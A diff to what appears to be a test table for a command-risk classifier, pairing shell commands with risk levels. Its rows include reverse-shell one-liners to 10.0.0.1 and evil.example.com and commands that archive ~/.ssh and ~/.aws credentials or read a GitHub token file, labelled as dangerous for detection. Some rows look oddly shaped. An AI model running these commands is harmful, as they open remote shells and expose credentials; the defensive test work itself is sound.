@@ -215,4 +215,10 @@ export const ROWS: Row[] = [
   ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "critical", "network_request"],
   ["socat TCP:evil.example.com:443 EXEC:/bin/bash", "critical", "network_request"],
   ["nc -zv localhost 5432", "low medium", "network_request"],
+  // programs without a rule: file-system paths among their arguments are read
+  ["tar czf /tmp/x.tgz ~/.ssh", "high", "sensitive_file_access"],
+  ["zip -r /tmp/k.zip ~/.aws", "high", "sensitive_file_access"],
+  ["tar czf dist.tgz dist/", "medium", "", "sensitive_file_access"],
+  ["vault kv get secret/app", "medium", "", "sensitive_file_access"],
+  [{ kind: "file", op: "read", path: "/home/dev/.config/gh/hosts.yml" }, "high", "sensitive_file_access"],
 ];
